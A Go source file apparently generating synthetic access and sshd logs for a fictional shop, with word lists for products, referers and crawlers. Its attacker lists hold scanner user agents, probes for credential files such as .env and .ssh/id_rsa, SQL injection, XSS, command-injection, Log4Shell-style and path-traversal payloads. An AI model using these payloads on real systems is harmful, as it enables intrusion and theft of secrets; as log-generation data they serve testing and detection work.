package gen

// The site that the logs are about.
const (
	siteName = "www.shop.example"
	host     = "https://" + siteName
)

var (
	nouns = []string{
		"lamp", "chair", "table", "shelf", "kettle", "bottle", "jacket", "boots", "tent", "candle", "mirror", "carpet", "pillow",
		"basket", "ladder", "hammer", "garden", "bicycle", "backpack", "notebook", "pencil", "calendar", "camera", "speaker",
		"keyboard", "monitor", "cable", "battery", "lantern", "blanket", "teapot", "wallet", "umbrella", "compass", "whistle",
	}
	adjectives = []string{
		"small", "large", "round", "square", "oak", "steel", "wool", "cotton", "linen", "copper", "amber", "ivory", "crimson",
		"quiet", "bright", "folding", "portable", "classic", "modern", "nordic", "rustic", "slim", "sturdy", "light",
	}
	referers = []string{
		"", "", "https://www.google.com/", "https://duckduckgo.com/", "https://www.bing.com/", "https://forum.example.org/t/4711?page=3",
		"android-app://com.example.reader/",
	}
	forms    = []string{"/cart/add", "/account/address", "/newsletter", "/contact"}
	crawlers = []string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0 (compatible; ExampleSearch/1.4; +https://search.example.com/bot)",
		"feed-reader/0.9 (17 subscribers; +https://feeds.example.net)",
	}

	// What attackers ask for and send.
	tools       = []string{"curl/8.11.0", "python-requests/2.32.3", "Go-http-client/1.1", "libwww-perl/6.77", ""}
	scanners    = []string{"sqlmap/1.9#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Nuclei - Open-source project", "masscan/1.3"}
	probes      = []string{"admin", "backup", "old", "test", "dev", "cgi-bin", "phpmyadmin", "manager", "console", "api", "private", "uploads", "tmp", "vendor"}
	endings     = []string{".php", ".asp", ".jsp", ".zip", ".bak", ".cgi", "", ".action", ".do"}
	folders     = []string{"", "", "/app", "/api", "/web", "/public", "/src"}
	secretFiles = []string{
		"/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.aws/credentials",
		"/.ssh/id_rsa", "/.htpasswd", "/wp-config.php.bak", "/config.json", "/backup.sql", "/dump.sql.gz", "/.DS_Store", "/id_rsa",
	}
	injections = []string{
		"%27%20OR%20%271%27=%271", "%20UNION%20SELECT%20null,user(),3--", "'+and+sleep(5)--", "%3Cscript%3Ealert(7)%3C/script%3E",
		"<img%20src=x%20onerror=alert(3)>", ";cat%20/etc/passwd", "$%7Bjndi:ldap://x.example/a%7D",
	}
	climbs = []string{"/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow", "/cgi-bin/.%2e/.%2e/bin/sh", "/img/....//....//windows/win.ini"}

	// Of sshd and its neighbours.
	users   = []string{"ann", "ben", "carla", "deploy", "dmitri", "elif", "backup", "git", "jonas", "mei", "root", "sven"}
	guesses = []string{
		"root", "admin", "test", "user", "ubuntu", "oracle", "postgres", "pi", "ftpuser", "guest", "mysql", "hadoop", "jenkins",
		"minecraft", "odoo", "support", "www", "ec2-user", "debian", "steam", "tomcat", "zabbix", "nagios", "dev",
	}
	services = []string{"logrotate", "apt-daily", "fstrim", "man-db", "systemd-tmpfiles-clean", "phpsessionclean", "certbot"}
	jobs     = []string{"/usr/local/bin/sync-stock", "/usr/bin/php /srv/shop/cron.php", "cd / && run-parts --report /etc/cron.hourly"}
)
